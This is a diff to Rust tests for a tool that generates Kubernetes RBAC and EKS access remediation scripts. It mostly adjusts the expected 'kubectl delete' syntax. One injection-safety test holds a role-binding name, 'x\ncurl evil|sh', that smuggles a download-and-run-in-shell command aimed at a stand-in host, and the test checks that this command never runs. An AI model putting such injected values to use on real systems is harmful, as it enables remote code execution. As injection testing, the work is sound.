@@ -33,7 +33,7 @@ fn every_remediation_file_is_valid_and_holds_exactly_the_recommendations() {
     assert_eq!(kinds.iter().filter(|k| **k == "ClusterRole").count(), 1, "platform-admin lists nodes: {kinds:?}");
     assert_eq!(kinds.iter().filter(|k| **k == "Role").count(), 8 + 2, "platform-admin's 8 namespaces, ci-deployer's 2");
     assert_eq!(kinds.len(), 2 * (1 + 8 + 2), "each role has its binding: {kinds:?}");
-    assert!(text.contains("#   kubectl delete clusterrolebinding old-contractors"), "{text}");
+    assert!(text.contains("#   kubectl delete clusterrolebinding/old-contractors"), "{text}");
     // Exactly what ci-deployer did in payments: get/patch of three deployments by name, ...
     let payments = text
         .split("---\n")
@@ -76,7 +76,7 @@ fn every_remediation_file_is_valid_and_holds_exactly_the_recommendations() {
     assert!(sh.contains(
         "\naws eks delete-access-entry --cluster-name demo --principal-arn arn:aws:iam::111122223333:role/break-glass\n"
     ));
-    assert!(sh.contains("\nkubectl delete clusterrolebinding old-contractors\n"));
+    assert!(sh.contains("\nkubectl delete clusterrolebinding/old-contractors\n"));
     assert_eq!(sh.matches("kubectl apply -f - <<'GRANTSCOPE_RBAC_YAML'").count(), 2, "generated RBAC inline");
 
     // eksctl: grantscope's own loader reads it back to exactly the recommended access entries.
@@ -176,7 +176,7 @@ fn the_script_runs_as_one_plan_and_no_name_escapes_its_quotes_or_comments() {
     // (A stand-in's call is logged as `tool [arg]...`; the name's own line break shows inside its brackets.)
     assert!(!calls.lines().any(|l| l == "curl" || l.starts_with("curl [")), "nothing ran from a name: {calls}");
     assert!(
-        calls.contains("kubectl [delete] [clusterrolebinding] [x\ncurl evil|sh]"),
+        calls.contains("kubectl [delete] [clusterrolebinding/x\ncurl evil|sh]"),
         "the name is one argument: {calls}"
     );
     // One update for platform-admin, with the final list: the generated group in, the unused one out.
